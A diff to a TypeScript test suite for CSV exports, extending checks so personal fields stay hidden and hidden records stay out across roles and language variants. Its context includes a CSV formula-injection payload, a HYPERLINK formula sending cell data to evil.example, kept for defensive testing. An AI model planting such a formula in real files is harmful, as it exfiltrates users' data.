@@ -6,7 +6,7 @@ import { Source } from '../../src/sources/source.entity';
 import { AccessFixture, buildAccessFixture, SECRET } from '../support/access-fixture';
 import { buildResearchFixture, count, date, ResearchFixture } from '../support/research-fixture';
 import { startTestApp, TestApp } from '../support/test-app';
-import { EXPORT_ROUTES } from '../../src/exports/routes';
+import { EXPORT_ROUTES, ExportRoute } from '../../src/exports/routes';
 import { csv, download, listIds, queryOf, readCsv, secretStrings } from './support';
 
 const INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
@@ -279,7 +279,9 @@ describe('CSV exports', () => {
       const people = [SECRET.fullName, SECRET.otherNames, SECRET.occupation, SECRET.contact, SECRET.notes, SECRET.involvementDescription];
       for (const role of [Role.PUBLIC, Role.RESEARCHER, Role.EDITOR]) {
         // Every CSV route, so a new file is covered as soon as it is routed.
-        for (const path of Object.values(EXPORT_ROUTES).filter((e) => e.file.endsWith('.csv')).map((e) => `/exports/${e.file}`)) {
+        // With and without the text in the reader's languages, where the route takes them.
+        const routes = (Object.values(EXPORT_ROUTES) as ExportRoute[]).filter((e) => e.file.endsWith('.csv'));
+        for (const path of routes.flatMap((e) => [`/exports/${e.file}`, ...('language' in e.options ? [`/exports/${e.file}?language=ru,fr`] : [])])) {
           const { text } = await csv(t, path, role);
           for (const secret of people) expect({ path, role, leaked: text.includes(secret) }).toEqual({ path, role, leaked: false });
         }
@@ -290,6 +292,9 @@ describe('CSV exports', () => {
     it('leaves out records the viewer may not see, and links through them', async () => {
       const ids = async (path: string, role: Role) => (await csv(t, path, role)).rows.map((x) => x.id);
       for (const role of [Role.PUBLIC, Role.RESEARCHER]) {
+        for (const file of ['incidents.csv', 'responses.csv', 'situations.csv', 'citations.csv']) {
+          expect({ file, ids: await ids(`/exports/${file}?language=ru`, role) }).toEqual({ file, ids: await ids(`/exports/${file}`, role) });
+        }
         expect(await ids('/exports/incidents.csv', role)).not.toContain(r.i.hidden.id);
         expect(await ids('/exports/responses.csv', role)).not.toContain(r.r.hiddenStatement.id);
         expect(await ids('/exports/sources.csv', role)).not.toContain(r.s.testimony.id);
